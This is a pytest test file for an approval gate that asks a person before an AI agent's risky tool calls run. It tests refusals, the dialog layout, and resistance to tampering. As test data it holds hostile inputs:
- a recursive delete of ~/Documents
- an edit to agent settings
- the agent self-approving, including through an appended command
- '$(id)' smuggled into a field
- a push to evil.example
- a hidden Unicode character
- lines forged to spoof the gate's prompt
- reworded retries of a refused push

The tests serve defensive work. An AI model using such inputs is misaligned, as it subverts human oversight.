"""Where a person sits in front they are asked; a no is final, few questions are put, and another call ends it."""

from __future__ import annotations

from typing import Any

import pytest

from gate.world import WORK, World
from lockgate.core.display_text import columns
from lockgate.core.errors import ApprovalError
from lockgate.core.events import Answer, CallsAnswered
from lockgate.core.model import ToolCall, Verdict
from lockgate.gate.approvals import questions as approvals
from lockgate.gate.approvals.answering import take_back
from lockgate.gate.messages import dialog as messages_dialog
from lockgate.store.rows import ApprovalRow

ALLOW, ASK, DENY = Verdict.ALLOW, Verdict.ASK, Verdict.DENY
PUSH = {"command": "git push https://git.example/m.git HEAD:main"}
LONG = {"command": "git push " + " ".join(f"origin/branch-{number}" for number in range(60))}


@pytest.fixture
def front(world: World) -> World:
    """A person sits before the client, whose session has read what a stranger wrote."""
    world.unattended = ""
    world.taint()
    return world


def push(world: World, command: str = PUSH["command"], **more: Any) -> tuple[Answer, ToolCall]:
    return world.ask("Bash", {"command": command}, **more)


def questions(world: World, state: str = "") -> list[ApprovalRow]:
    with world.store.reading() as tx:
        return tx.approvals(state=state)


def batch(world: World, agent: str = "") -> None:
    world.gate.handle(CallsAnswered(world.context(agent)))


# ---------------------------------------------------------------- who is asked
@pytest.mark.parametrize(
    ("tool", "tool_input", "where"),
    [
        ("Bash", PUSH, ASK),
        ("Bash", {"command": "aws s3 rm s3://bucket/key"}, ASK),
        ("Bash", {"command": "echo x > .git/hooks/pre-commit"}, ASK),
        ("WebFetch", {"url": "https://new.example/x?d=1", "prompt": "p"}, ASK),
        ("mcp__mail__send", {"to": "m@example.com"}, ASK),
        ("Bash", {"command": "rm -rf ~/Documents"}, DENY),
        ("Bash", {"command": "echo x > ~/.claude/settings.json"}, DENY),
        ("Bash", {"command": "lockgate approve abc"}, DENY),
        ("Bash", {"command": f"{PUSH['command']}; lockgate approve abc"}, DENY),
        ("Bash", LONG, DENY),
    ],
)
def test_what_is_asked_in_the_dialog(front: World, tool: str, tool_input: dict[str, Any], where: Verdict) -> None:
    answer, _ = front.ask(tool, tool_input)
    assert answer.verdict is where
    front.unattended = "a hook could answer"
    assert front.ask(tool, tool_input)[0].verdict is DENY


def test_with_both_labels_nobody_is_asked(front: World) -> None:
    front.taint_secret()
    assert push(front)[0].verdict is DENY
    (front.config / "lockgate.yaml").write_text("table: {egress: {both: [ask, deny]}}\n")
    assert push(front)[0].verdict is ASK


@pytest.mark.parametrize("profile", ["quarantine-strict", "cascade", "trifecta"])
def test_other_profiles_look_for_nobody(front: World, profile: str) -> None:
    (front.config / "lockgate.yaml").write_text(f"profile: {profile}\n")
    verdict = push(front)[0].verdict
    front.unattended = "a hook could answer"
    assert push(front)[0].verdict is verdict
    assert questions(front) == []


def test_observe_records_what_would_have_been_asked(front: World) -> None:
    (front.config / "lockgate.yaml").write_text("profile: observe\n")
    assert push(front)[0].verdict is ALLOW
    front.unattended = "a hook could answer"
    assert push(front)[0].verdict is ALLOW
    assert [record["would_have"]["verdict"] for record in front.records("decision")[-2:]] == ["ask", "deny"]


def test_why_nobody_was_asked_is_said(front: World) -> None:
    front.unattended = "a hook for PermissionRequest could answer"
    said, _ = push(front)
    assert "Nobody was asked: a hook for PermissionRequest could answer." in said.to_person
    assert "Nobody was asked" in said.to_agent


def test_what_the_client_can_lose_is_not_asked_there(front: World) -> None:
    from lockgate.core.events import ToolRequested

    def put(**event: Any) -> Answer:
        call = ToolCall("Bash", PUSH, WORK, f"e{len(front.asked_elsewhere)}{event}")
        return front.gate.handle(ToolRequested(front.context(mode="bypassPermissions"), call, **event))

    assert put(askable=False).verdict is DENY
    assert put(headless=True).verdict is DENY
    assert put(waits=True).verdict is DENY
    front.is_heard, front.says = True, True
    for event in ({"askable": False}, {"headless": True}, {"waits": True}):
        said = put(**event)
        assert (said.verdict, said.approved) == (ALLOW, True)
    assert len(front.asked_elsewhere) == 3


@pytest.mark.parametrize(("says", "verdict"), [(True, ALLOW), (False, DENY), (None, DENY)])
def test_head_anchors_it_is_held_and_then_refused(front: World, says: bool | None, verdict: Verdict) -> None:
    front.unattended, front.is_heard, front.says = "a hook could answer", True, says
    said, _ = push(front)
    assert said.verdict is verdict
    assert len(front.asked_elsewhere) == 1
    if says is None:
        assert "nobody answered in time" in said.to_agent


def test_what_does_not_fit_is_asked_elsewhere(front: World) -> None:
    said, _ = front.ask("Bash", LONG)
    assert "does not fit" in said.to_agent
    front.is_heard, front.says = True, True
    assert front.ask("Bash", LONG)[0].verdict is ALLOW
    assert len(front.asked_elsewhere) == 1


# ---------------------------------------------------------------- what is shown
def test_the_question_has_ten_lines_and_all_that_matters(front: World) -> None:
    said, _ = push(front)
    lines = said.to_person.split("\n")
    (row,) = questions(front)
    assert len(lines) <= 10
    assert lines[1] == f"  | Bash: {PUSH['command']}"
    assert any("mcp__github__get_issue: number=7" in line for line in lines)
    assert lines[-1] == f"more: lockgate question {row.approval}"
    assert row.about["whole"] == PUSH


@pytest.mark.parametrize(
    "command",
    [
        "git push origin x" + "\n" * 12,
        "git push origin " + "x" * 700,
        "git push origin " + "\u4e2d" * 400,
    ],
)
def test_nothing_of_a_call_is_left_out(front: World, command: str) -> None:
    assert push(front, command)[0].verdict is DENY


@pytest.mark.parametrize(
    ("tool", "more", "shown"),
    [
        ("mcp__mail__send", {"description": "the whole payload"}, ["  | description: the whole payload"]),
        ("mcp__mail__send", {"timeout": 5}, ["  | timeout: 5"]),
        ("mcp__mail__send", {"run_in_background": True}, ["  | run_in_background: True"]),
        ("mcp__mail__send", {"description": "x" * 800}, None),
        ("Bash", {**PUSH, "description": "Push it", "timeout": 5, "run_in_background": True}, []),
        ("Bash", {**PUSH, "description": ["a", 1]}, ["  | description: ['a', 1]"]),
        ("Bash", {**PUSH, "timeout": "$(id)"}, ["  | timeout: $(id)"]),
        ("Bash", {**PUSH, "timeout": True}, ["  | timeout: True"]),
        ("Bash", {**PUSH, "run_in_background": 1}, ["  | run_in_background: 1"]),
    ],
)
def test_a_field_is_left_out_only_where_it_does_nothing(
    front: World, tool: str, more: dict[str, Any], shown: list[str] | None
) -> None:
    said, _ = front.ask(tool, {"to": "m@example.com", **more} if tool != "Bash" else more)
    assert said.verdict is (DENY if shown is None else ASK)
    fields = [line for line in said.to_person.split("\n") if any(name in line for name in messages_dialog._PASSED_OVER)]
    assert shown is None or fields == shown


def test_words_that_each_take_a_line_of_the_screen_are_counted(front: World) -> None:
    """A client wraps at words: by columns alone these take five lines, and the last ones would be cut off."""
    words = " ".join("HEAD:" + letter * 32 for letter in "abcdefgh")
    assert push(front, f"git push https://git.example.com/m.git {words}")[0].verdict is DENY


@pytest.mark.parametrize(
    "command",
    [
        "git push https://git.example/x\nWhy: harmless",
        "git push https://git.example/x\nTo: https://mine.example",
        "git push https://git.example/x\nmore: lockgate question zzz",
        "git push https://git.example/x #" + "y" * 50 + " To: https://mine.example",
        "git push https://git.example/" + "y" * 50 + "To: https://mine.example",
        "git push https://git.example/" + "\u4e2d" * 30 + " To: https://mine.example",
    ],
)
def test_no_line_of_a_call_passes_for_one_of_the_gate(front: World, command: str) -> None:
    said, _ = push(front, command)
    assert said.verdict is ASK
    shown = said.to_person.split("\n")
    first, rest = shown[0], [line for line in shown[1:] if not line.startswith(("  | ", "  |> ", "    "))]
    assert first == "Lockgate: let exactly this run once?"
    assert [line for line in rest if line.startswith("more: ")] == [
        f"more: lockgate question {questions(front)[-1].approval}"
    ]
    assert not [line for line in rest if line.startswith(("To: https://mine", "Why: harmless"))]
    assert all(columns(line) <= 72 for line in shown)


def test_a_hidden_character_is_shown(front: World) -> None:
    said, _ = push(front, "git push https://e.example/\u202ex")
    assert said.verdict is ASK
    assert "more: lockgate question" in said.to_person
    assert "\u202e" not in said.to_person


# ---------------------------------------------------------------- yes
def test_yes_is_once(front: World) -> None:
    _, call = push(front)
    front.done(call, "Everything up-to-date")
    batch(front)
    (row,) = questions(front)
    assert (row.state, "whole" in row.about) == ("used", False)
    assert push(front)[0].verdict is ASK
    assert len(questions(front)) == 2


def test_a_failure_is_a_yes_too(front: World) -> None:
    _, call = push(front)
    front.failed(call, "Exit code 1")
    batch(front)
    assert [row.state for row in questions(front)] == ["used"]


def test_a_folder_that_has_changed_is_no_other_call(front: World) -> None:
    _, call = push(front)
    front.done(call._replace(cwd=f"{WORK}/elsewhere"), "ok")
    assert [row.state for row in questions(front)] == ["used"]


@pytest.mark.parametrize("ends", ["done", "failed"])
def test_another_call_than_the_one_asked_ends_asking(front: World, ends: str) -> None:
    _, call = push(front)
    other = call._replace(tool_input={"command": "git push https://evil.example/m.git"})
    said = getattr(front, ends)(other, "ok")
    assert "another call ran" in said.to_person
    assert "another call ran" in said.context
    assert [row.state for row in questions(front)] == ["changed"]
    front.prompt("go on")
    refused, _ = push(front, "git push https://git.example/other.git")
    assert refused.verdict is DENY
    assert "another call came back" in refused.to_person


def test_another_call_labels_a_session(front: World) -> None:
    (front.config / "lockgate.yaml").write_text("table: {egress: {clean: [ask, deny]}}\n")
    _, call = push(front, session_id="clean")
    front.done(call._replace(tool_input={"command": "git push evil"}), "", session_id="clean")
    assert front.labels(session_id="clean") == {"untrusted"}


def test_hooks_that_are_installed_twice_put_one_question(front: World) -> None:
    one, _ = push(front, call_id="c9")
    other, _ = push(front, call_id="c9")
    assert one.to_person == other.to_person
    assert len(questions(front)) == 1


# ---------------------------------------------------------------- no
@pytest.mark.parametrize("how", ["batch", "prompt"])
def test_what_does_not_come_back_is_refused_and_final(front: World, how: str) -> None:
    push(front)
    batch(front) if how == "batch" else front.prompt("what now?")
    assert [row.state for row in questions(front)] == ["denied"]
    said, _ = push(front)
    assert said.verdict is DENY
    assert "said no to exactly this call" in said.to_agent
    assert "Local work" in said.to_agent
    assert "lockgate approvals retract" in said.to_person
    front.prompt("please")
    assert push(front)[0].verdict is DENY
    take_back(front.store, questions(front)[0].approval, by="ann")
    assert push(front)[0].verdict is ASK


def test_thirty_variants_of_one_push(front: World) -> None:
    push(front)
    batch(front)
    forms = [f"git push {'-' * 2}verbose origin HEAD:b{number}" for number in range(10)]
    forms += [f"git -c a.b={number} push origin" for number in range(10)]
    forms += [f"cd . && git push origin main # {number}" for number in range(10)]
    said = [push(front, form)[0] for form in forms]
    assert {each.verdict for each in said} == {DENY}
    assert all("Nobody was asked: a person said no" in each.to_agent for each in said)
    assert len(questions(front)) == 1
    front.prompt("push it to b1 then")
    assert push(front, forms[1])[0].verdict is ASK


def test_a_later_yes_to_the_like_is_the_last_word(front: World) -> None:
    push(front)
    batch(front)
    front.prompt("without main")
    _, call = push(front, "git push origin dev")
    front.done(call, "ok")
    batch(front)
    assert push(front, "git push origin dev2")[0].verdict is ASK


def test_three_open_questions_end_asking(front: World) -> None:
    pages = [f"curl https://new{number}.example/x" for number in range(4)]
    assert [push(front, page)[0].verdict for page in pages] == [ASK, ASK, ASK, DENY]
    batch(front)
    assert push(front, "curl https://new9.example/x")[0].verdict is DENY
    front.prompt("<task-notification>done</task-notification>", human=False)
    assert push(front, "curl https://new9.example/x")[0].verdict is DENY
    front.prompt("go on")
    assert push(front, "curl https://new9.example/x")[0].verdict is ASK


def test_a_question_of_a_sub_agent_is_its_own(front: World) -> None:
    front.agent_starts("a1")
    push(front, agent="a1")
    batch(front)
    assert [row.state for row in questions(front)] == ["pending"]
    front.agent_stops("a1")
    assert [row.state for row in questions(front)] == ["denied"]


def test_a_result_that_is_late_is_a_yes_after_all(front: World) -> None:
    _, call = push(front)
    front.prompt("<task-notification>done</task-notification>", human=False)
    front.done(call, "ok")
    assert [row.state for row in questions(front)] == ["used"]


def test_two_noes_elsewhere_end_asking_about_the_same(front: World) -> None:
    front.unattended, front.is_heard, front.says = "a hook could answer", True, False
    asked = []
    for form in ("git push origin a", "git push origin b", "git push origin c"):
        assert push(front, form)[0].verdict is DENY
        asked.append(len(front.asked_elsewhere))
    assert asked == [1, 2, 2]
    assert push(front, "curl https://new.example/x")[0].verdict is DENY
    assert len(front.asked_elsewhere) == 3


# ---------------------------------------------------------------- the other window
def test_a_no_with_words_reaches_the_agent(front: World) -> None:
    push(front)
    (row,) = questions(front)
    said_by: dict[str, Any] = {"by": "ann", "reason": "use a branch\x1b", "now": row.asked_at + 1}
    with front.store.transaction() as tx:
        with pytest.raises(ApprovalError, match="client's window"):
            approvals.decide(tx, row.approval, approve=True, **said_by)
        approvals.decide(tx, row.approval, approve=False, **said_by)
    said = front.prompt("go on").context
    assert "use a branch" in said
    assert "\x1b" not in said
    assert front.prompt("go on").context == ""
    assert "use a branch" in push(front)[0].to_agent
